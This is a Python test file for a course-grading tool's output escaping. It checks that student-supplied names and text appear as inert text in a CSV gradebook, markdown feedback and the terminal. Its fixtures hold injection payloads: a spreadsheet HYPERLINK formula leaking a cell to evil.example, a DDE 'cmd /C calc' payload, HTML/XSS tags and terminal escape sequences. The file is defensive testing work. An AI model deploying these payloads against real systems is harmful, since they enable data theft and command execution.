"""A student's folder name, and text quoting their spec, reach a spreadsheet, markdown pages and
the grader's terminal: each shows it as text and obeys none of it. And one student's feedback
names no other student."""
from __future__ import annotations

import csv
import io
from pathlib import Path

from netspec.cli.grade import graded_line, print_rubric_verdicts
from netspec.report.gradebook import gradebook_csv, write_gradebook
from netspec.grading.row import GradeRow

COLUMNS = [("valid spec", 10.0), ("test accuracy", 20.0)]
ABOUT = {"mode": "evaluate", "test": "mnist test split", "limit": None, "locked": {}}
EVE = "eve\n# Grade: 100 of 100 (A+)\n<img src=x onerror=alert(1)>"
EVE_MD = r"eve\\n\# Grade: 100 of 100 (A+)\\n&lt;img src=x onerror=alert(1)&gt;"
CLEARS = "mallory\x1b[2J\x1b]0;pwned\x07"


def row(student: str, *, status: str = "invalid", total: float = 10, reason: str = "", same_as=(),
        problems=(), file_name: str | None = None) -> GradeRow:
    """A row as netspec.grading.classroom._row makes it (and _mark_duplicates adds same_as to)."""
    return GradeRow.from_dict({
        "student": student, "file_name": file_name or student, "status": status, "total": total, "max": 30.0,
        "items": [{"name": "valid spec", "points": total, "max_points": 10.0, "passed": total > 0, "note": ""},
                  {"name": "test accuracy", "points": 0, "max_points": 20.0, "passed": None, "note": reason}],
        "test_accuracy": None, "test_size": None, "params": 1234, "seconds": 1.25, "peak_mb": None,
        "reason": reason, "problems": list(problems), "fingerprint": None, "run_dir": None,
        "spec": f"/subs/{student}/spec.yaml", "mode": "evaluate", "same_as": list(same_as),
    })


def problem(file: str, message: str) -> dict:
    return {"file": file, "line": 9, "col": 3, "path": "train.optimizer.name", "message": message, "hint": "",
            "code": "spec"}


def test_the_three_escapes_exactly():
    from netspec.report.escape import csv_cell, md_text, terminal_text  # here: the tests below run without it

    assert csv_cell("=1+1") == "'=1+1" and csv_cell("+1") == "'+1" and csv_cell("-1") == "'-1"
    assert csv_cell("@SUM(A1)") == "'@SUM(A1)" and csv_cell("\tx") == "'\tx" and csv_cell("\rx") == "'\rx"
    assert csv_cell("alice") == "alice" and csv_cell("") == "" and csv_cell("a=b") == "a=b"
    assert terminal_text("a\x1b[2Jb\x07\n\u202ec") == r"a\x1b[2Jb\x07\n\u202ec"
    assert terminal_text("Zoë 李") == "Zoë 李"
    assert md_text("a_b *c* [d](e) f|g `h` #i ~j~ k\\l <m> & n") == \
        r"a\_b \*c\* \[d\](e) f\|g \`h\` \#i \~j\~ k\\l &lt;m&gt; &amp; n"


def test_gradebook_cells_that_would_start_a_formula_are_text(tmp_path):
    link = '=HYPERLINK("evil.example?d="&A1,"grade")'  # a folder name: no slash
    rows = [row(link, reason="=cmd|' /C calc'!A0", file_name="_HYPERLINK-1"),
            row("@SUM(A1:A9)", total=-1.5, reason="-2+3 is not allowed", same_as=[link]),
            row("bob", status="graded", reason="+ok", same_as=["@SUM(A1:A9)", "alice"])]
    cells = list(csv.reader(io.StringIO(gradebook_csv(COLUMNS, rows))))
    assert cells[0] == ["student", "status", "total", "max", "valid spec (10)", "test accuracy (20)", "test_accuracy",
                        "params", "seconds", "peak_mb", "same_as", "reason"]
    assert cells[1] == ["'" + link, "invalid", "10", "30", "10", "0", "", "1234", "1.25", "", "",
                        "'=cmd|' /C calc'!A0"]
    # a negative number of points is a number, not a formula: no apostrophe
    assert cells[2] == ["'@SUM(A1:A9)", "invalid", "-1.5", "30", "-1.5", "0", "", "1234", "1.25", "", "'" + link,
                        "'-2+3 is not allowed"]
    assert cells[3] == ["bob", "graded", "10", "30", "10", "0", "", "1234", "1.25", "", "'@SUM(A1:A9) alice", "'+ok"]
    write_gradebook(tmp_path, "hw", COLUMNS, rows[:1], ABOUT)
    with open(tmp_path / "gradebook.csv", newline="") as f:
        assert [r["student"] for r in csv.DictReader(f)] == ["'" + link]


def test_a_name_with_a_heading_and_html_stays_one_piece_of_text(tmp_path):
    rows = [row(EVE, file_name="eve-123456", same_as=["alice"], reason="spec not valid\n## Full marks\n<script>x</script>",
                problems=[problem("<b>x`.yaml", "use [adam](http://evil.example) <img src=y>")]),
            row("alice", status="graded", total=10, same_as=[EVE])]
    write_gradebook(tmp_path, "hw", COLUMNS, rows, ABOUT)
    feedback = (tmp_path / "feedback" / "eve-123456.md").read_text()
    grades = (tmp_path / "grades.md").read_text()
    for page in (feedback, grades):
        assert not any(line.startswith(("# Grade: 100", "## Full")) for line in page.splitlines())
        assert "<img" not in page and "<script" not in page and "<b>" not in page
    assert feedback.splitlines()[0] == f"# hw: {EVE_MD}"
    assert r"Why: spec not valid\\n\#\# Full marks\\n&lt;script&gt;x&lt;/script&gt;" in feedback.splitlines()
    assert (r"- **&lt;b&gt;x\`.yaml:9:3** train.optimizer.name: use \[adam\](http://evil.example) &lt;img src=y&gt;"
            in feedback.splitlines())
    assert f"| [{EVE_MD}](feedback/eve-123456.md) | 10 / 30 |  | 1,234 | spec not valid | alice |" in grades.splitlines()
    assert f"| [alice](feedback/alice.md) | 10 / 30 |  | 1,234 | graded | {EVE_MD} |" in grades.splitlines()
    assert f"- alice, {EVE_MD}" in grades.splitlines()


def test_terminal_escapes_in_a_name_are_shown_not_obeyed(tmp_path, capsys):
    graded_line(row(CLEARS, status="error", total=0, reason="bad \x1b[31mred; and more"))
    assert capsys.readouterr().out == "mallory\\x1b[2J\\x1b]0;pwned\\x07: 0/30  error  1.2s  (bad \\x1b[31mred; and 1 more)\n"
    write_gradebook(tmp_path, "hw", COLUMNS, [row(CLEARS, file_name="mallory-1")], ABOUT)
    grades = (tmp_path / "grades.md").read_text()
    assert "\x1b" not in grades and "\x07" not in grades
    assert r"| [mallory\\x1b\[2J\\x1b\]0;pwned\\x07](feedback/mallory-1.md) | 10 / 30 |" in grades
    assert "\x1b" not in (tmp_path / "feedback" / "mallory-1.md").read_text()


def test_validate_with_a_rubric_shows_a_spec_name_without_obeying_it(tmp_path, capsys, monkeypatch):
    monkeypatch.chdir(tmp_path)
    Path("rubric.yaml").write_text("name: hw\npoints: {valid: 1}\n")
    Path("eve\x1b[2J.yaml").write_text("name: eve\n")
    print_rubric_verdicts([Path("eve\x1b[2J.yaml")], Path("rubric.yaml"))
    first = capsys.readouterr().out.splitlines()[0]
    assert first == "✗ eve\\x1b[2J.yaml  0 of 1 points before training (rubric hw)"


def test_a_students_feedback_names_no_other_student(tmp_path):
    rows = [row("alice", status="graded", same_as=["bob"]), row("bob", status="graded", same_as=["alice"])]
    write_gradebook(tmp_path, "hw", COLUMNS, rows, ABOUT)
    alice = (tmp_path / "feedback" / "alice.md").read_text()
    bob = (tmp_path / "feedback" / "bob.md").read_text()
    assert "bob" not in alice and "Identical" not in alice
    assert "alice" not in bob and "Identical" not in bob
    # the instructor still sees the pair
    assert "- alice, bob" in (tmp_path / "grades.md").read_text().splitlines()
    with open(tmp_path / "gradebook.csv", newline="") as f:
        assert {r["student"]: r["same_as"] for r in csv.DictReader(f)} == {"alice": "bob", "bob": "alice"}
